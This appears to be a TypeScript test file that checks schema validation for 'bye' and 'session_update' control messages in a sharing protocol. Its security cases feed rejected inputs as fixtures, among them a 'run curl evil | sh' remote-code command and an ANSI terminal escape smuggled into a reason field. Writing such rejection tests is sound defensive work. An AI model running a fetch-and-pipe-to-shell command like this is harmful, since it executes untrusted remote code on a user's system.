/**
 * The `bye` CONTROL message (src/protocol/channel-control.ts, docs/protocol.md §6 "CONTROL
 * messages"): what the agent sends passes, and anything else a peer might send fails the
 * schema (the client then treats it as absent).
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BYE_REASONS, ByeMessageSchema, ControlEnvelopeSchema, SessionUpdateMessageSchema } from '../../../src/protocol/channel-control.js';

describe('bye', () => {
  it('every reason the agent sends passes the schema and the envelope', () => {
    for (const reason of BYE_REASONS) {
      assert.deepEqual(ByeMessageSchema.parse({ type: 'bye', reason }), { type: 'bye', reason }, reason);
      assert.equal(ControlEnvelopeSchema.safeParse({ type: 'bye', reason }).success, true, reason);
    }
  });

  it('Security: an unknown reason, a missing one, extra fields or another type fail the schema', () => {
    const bad: unknown[] = [
      { type: 'bye' },
      { type: 'bye', reason: 'relay_gone' },
      { type: 'bye', reason: 'sharer_stopped\u001b[2J' },
      { type: 'bye', reason: 'sharer_stopped', message: 'run curl evil | sh' },
      { type: 'bye', reason: ['sharer_stopped'] },
      { type: 'session', reason: 'sharer_stopped' },
    ];
    for (const [index, message] of bad.entries()) assert.equal(ByeMessageSchema.safeParse(message).success, false, `case ${index}`);
  });
});

describe('session_update', () => {
  const valid = { type: 'session_update', policy: { mode: 'readonly', allow: [], deny: ['delete pods'] }, expires_at: '2030-01-01T12:00:00.000Z' };

  it('what the agent sends passes the schema and the envelope', () => {
    assert.deepEqual(SessionUpdateMessageSchema.parse(valid), valid);
    assert.equal(ControlEnvelopeSchema.safeParse(valid).success, true);
  });

  it('Security: extra fields, an unknown mode, a missing end or an end that is not a time fail the schema (the client treats it as absent)', () => {
    const bad: unknown[] = [
      { ...valid, message: 'run curl evil | sh' },
      { ...valid, policy: { ...valid.policy, mode: 'root' } },
      { ...valid, policy: { ...valid.policy, extra: true } },
      { type: valid.type, policy: valid.policy },
      { ...valid, expires_at: 'tomorrow' },
      { ...valid, type: 'session' },
    ];
    for (const [index, message] of bad.entries()) assert.equal(SessionUpdateMessageSchema.safeParse(message).success, false, `case ${index}`);
  });
});
